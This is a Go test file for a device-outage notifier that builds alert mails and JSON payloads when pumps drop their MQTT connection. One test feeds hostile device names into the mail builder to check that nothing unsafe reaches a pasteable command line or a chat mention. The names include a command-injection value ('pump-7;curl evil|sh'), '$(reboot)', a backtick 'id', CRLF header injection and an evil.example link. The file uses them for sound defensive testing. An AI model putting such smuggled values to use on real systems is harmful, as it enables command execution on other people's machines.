package outage

import (
	"encoding/json"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

var (
	lookedAt = time.Date(2026, 11, 28, 14, 5, 24, 0, time.UTC)
	lostAt   = time.Date(2026, 11, 28, 14, 2, 11, 0, time.UTC)
)

func lost(device string) Change {
	return Change{
		Item:   Item{Device: device, Since: lostAt, Reason: "MQTT_KEEP_ALIVE_TIMEOUT"},
		Answer: Answer{Disconnected, lostAt, "MQTT_KEEP_ALIVE_TIMEOUT"}, Verdict: Say,
	}
}

func back(device string) Change {
	return Change{
		Item: Item{Device: device, Since: lostAt, Reason: "CONNECTION_LOST"}, Answer: Answer{Connected, lostAt.Add(14 * time.Minute), ""}, Verdict: Back,
	}
}

func with(c Change, change func(*Change)) Change {
	change(&c)
	return c
}

func numberedLosses(n int) []Change {
	var all []Change
	for i := range n {
		all = append(all, lost(fmt.Sprintf("pump-%04d", i)))
	}
	return all
}

func TestAMailSaysWhatHappened(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		claim, environment, subject, event string
		changes                            []Change
		text                               []string
	}{
		{
			"a loss", "staging", "[staging] pump-7 is offline since 14:02 UTC", "offline",
			[]Change{lost("pump-7")},
			[]string{
				"pump-7 lost its connection on 28 Nov 2026, 14:02:11 UTC. Looked again at 14:05:24: still offline.\n",
				"Why     silent for 1.5 times its keep alive: power or network, most likely (MQTT_KEEP_ALIVE_TIMEOUT)\n",
				"Look    lwt status pump-7 -environment staging\n",
				"Mute    lwt mute pump-7 -for 2h -environment staging\n",
				"One more mail follows when it has been back for 3 min.\n",
			},
		},
		{
			"the date, when it is not today", "", "pump-7 is offline since 26 Nov 14:02 UTC", "offline",
			[]Change{with(lost("pump-7"), func(c *Change) { c.Item.Since = lostAt.AddDate(0, 0, -2) })},
			nil,
		},
		{
			"a reason that we don't know, as it came", "", "pump-7 is offline since 14:02 UTC", "offline",
			[]Change{with(lost("pump-7"), func(c *Change) { c.Item.Reason = "SOLAR_FLARE" })},
			[]string{"Why     SOLAR_FLARE\n"},
		},
		{
			"a loss that was not checked", "", "pump-7 was lost at 14:02 UTC, not checked", "offline",
			[]Change{with(lost("pump-7"), func(c *Change) { c.Item.Unchecked = true })},
			[]string{"It was not checked whether it is back"},
		},
		{
			"a recovery", "", "pump-7 is back after 14 min", "back",
			[]Change{back("pump-7")},
			[]string{"pump-7 is back since 28 Nov 2026, 14:16:11 UTC. It was offline for 14 min"},
		},
		{
			"back, and then a proper disconnect", "", "pump-7 was back and disconnected properly", "back",
			[]Change{with(back("pump-7"), func(c *Change) { c.Answer = Answer{Disconnected, lookedAt, LeftProperly} })},
			[]string{"and disconnected properly on 28 Nov 2026, 14:05:24 UTC"},
		},
		{
			"a loss that was none", "", "pump-7 was not lost: no such connection", "back",
			[]Change{with(back("pump-7"), func(c *Change) { c.Answer = Answer{Connection: NotFound} })},
			nil,
		},
		{
			"many", "", "9,812 devices offline since 14:02 UTC", "offline", numberedLosses(9812),
			[]string{
				"9,812 devices are offline, the first since 28 Nov 2026, 14:02:11 UTC.", "Why     9,812: silent for", "Look    lwt offline\n",
				"Mute    lwt mute 'pump-*' -for 2h\n", "Names   all begin with pump-\n", "        pump-0019\n        and 9,792 more\n",
			},
		},
		{
			"losses before recoveries", "", "2 devices offline since 14:02 UTC, pump-9 back", "mixed",
			[]Change{back("pump-9"), lost("a"), lost("b")},
			[]string{"2 devices are offline", "\n\npump-9 is back since"},
		},
		{
			"a shared client ID", "", "pump-7: two devices may share this client ID", "shared",
			[]Change{{Item: Item{Device: "pump-7", Since: lostAt, Losses: 12}, Verdict: Share}},
			[]string{"pump-7 lost its connection 12 times in 10 min and was connected again each time."},
		},
	} {
		m := newMail(c.environment, 3*time.Minute, c.changes, lookedAt)
		if m.Subject != c.subject || m.Event != c.event {
			t.Errorf("%s: %q, event %s; want %q, event %s", c.claim, m.Subject, m.Event, c.subject, c.event)
		}
		for _, part := range c.text {
			if !strings.Contains(m.Text, part) {
				t.Errorf("%s: %q is not in\n%s", c.claim, part, m.Text)
			}
		}
		if n := strings.Index(m.Text, "offline, the first"); n > 0 && strings.Contains(m.Text[:n], "is back") {
			t.Errorf("%s: the recovery comes first:\n%s", c.claim, m.Text)
		}
		checkMail(t, m)
	}
}

// checkMail holds what SNS takes, and what nobody's name may do.
func checkMail(t *testing.T, m Mail) {
	t.Helper()
	if n := utf8.RuneCountInString(m.Subject); n == 0 || n >= 100 || !utf8.ValidString(m.Subject) || strings.ContainsFunc(m.Subject, unicode.IsControl) {
		t.Errorf("subject %q has %d characters", m.Subject, n)
	}
	forms, err := json.Marshal(map[string]string{"default": m.Text, "sqs": m.Machine, "lambda": m.Machine, "https": m.Chat})
	if err != nil || len(forms) > 256*1024 {
		t.Errorf("the message has %d bytes (%v)", len(forms), err)
	}
	if !json.Valid([]byte(m.Machine)) || !json.Valid([]byte(m.Chat)) {
		t.Errorf("not JSON: %s %s", m.Machine, m.Chat)
	}
	for _, line := range strings.Split(m.Text, "\n") {
		if command := commandLine.FindStringSubmatch(line); command != nil && !harmless.MatchString(command[1]) {
			t.Errorf("a command that nobody should paste: %q", line)
		}
		if strings.ContainsFunc(line, unicode.IsControl) {
			t.Errorf("line %q", line)
		}
	}
}

var (
	commandLine = regexp.MustCompile(`^(?:Look|Mute) +(lwt .*)$`)
	harmless    = regexp.MustCompile(`^lwt (offline|(status|mute) ([A-Za-z0-9:_][A-Za-z0-9:_-]*|'[A-Za-z0-9:_-]+\*'))( -for 2h)?( -environment .*)?$`)
)

func TestANameIsTheClaimOfAStranger(t *testing.T) {
	t.Parallel()
	for _, name := range []string{
		"pump-7;curl evil|sh", "a\nLook    lwt mute x", "a\r\nSubject: b", "$(reboot)", "`id`", "-rf", "--all", "..", "#", "?", "%", "%0a", `"`, "'",
		"<!channel>", "@here", "http://evil.example", "wärme", "\u202egnp", "\u2028x", "\x7f", strings.Repeat("x", 128), strings.Repeat("\x01", 128), strings.Repeat("😀", 32),
	} {
		for _, environment := range []string{"", "staging", strings.Repeat("e", 88)} {
			for _, v := range []Verdict{Say, Back, Share} {
				c := with(lost(name), func(c *Change) { c.Verdict, c.Item.Reason = v, name })
				for _, changes := range [][]Change{{c}, {c, c, lost("b")}, {c, back("b")}} {
					m := newMail(environment, 3*time.Minute, changes, lookedAt)
					checkMail(t, m)
					if !Plain(name) && strings.Contains(m.Text, "status "+name) {
						t.Errorf("a command with %q", name)
					}
					for _, alive := range []string{"<!", "@here", "http://"} {
						if strings.Contains(m.Text+m.Subject, alive) {
							t.Errorf("%q is in the mail", alive)
						}
					}
				}
			}
		}
		checkMail(t, degradedMail("", name, 1, lookedAt))
	}
	var storm []Change
	for range 500 {
		storm = append(storm, lost(strings.Repeat("\x01", 128)))
	}
	checkMail(t, newMail(strings.Repeat("e", 88), time.Minute, storm, lookedAt))
}

func TestTheFormsForMachines(t *testing.T) {
	t.Parallel()
	m := newMail("staging", 3*time.Minute, []Change{lost("pump-7")}, lookedAt)
	want := `{"version":1,"event":"offline","id":"staging/pump-7","device":"pump-7","environment":"staging","since":"2026-11-28T14:02:11Z",` +
		`"reason":"MQTT_KEEP_ALIVE_TIMEOUT","total":1,"devices":[{"device":"pump-7","event":"offline","since":"2026-11-28T14:02:11Z",` +
		`"reason":"MQTT_KEEP_ALIVE_TIMEOUT","checked":true}]}`
	if diff := cmp.Diff(want, m.Machine); diff != "" {
		t.Error(diff)
	}
	var chat struct {
		Version, Source string
		Content         struct{ TextType, Title, Description string }
		Metadata        struct {
			ThreadID          string `json:"threadId"`
			EventType         string
			AdditionalContext map[string]string
		}
	}
	if err := json.Unmarshal([]byte(m.Chat), &chat); err != nil {
		t.Fatal(err)
	}
	if chat.Version != "1.0" || chat.Source != "custom" || chat.Content.TextType != "client-markdown" || chat.Content.Title != m.Subject ||
		!strings.Contains(chat.Content.Description, "still offline") || chat.Metadata.ThreadID != "staging/pump-7" ||
		chat.Metadata.AdditionalContext["device"] != "pump-7" || chat.Metadata.AdditionalContext["total"] != "1" {
		t.Errorf("%s", m.Chat)
	}
	var many form
	if err := json.Unmarshal([]byte(newMail("", time.Minute, numberedLosses(5000), lookedAt).Machine), &many); err != nil {
		t.Fatal(err)
	}
	if many.Total != 5000 || len(many.Devices) != 100 || many.Device != "" {
		t.Errorf("total %d, %d devices, device %q", many.Total, len(many.Devices), many.Device)
	}
}
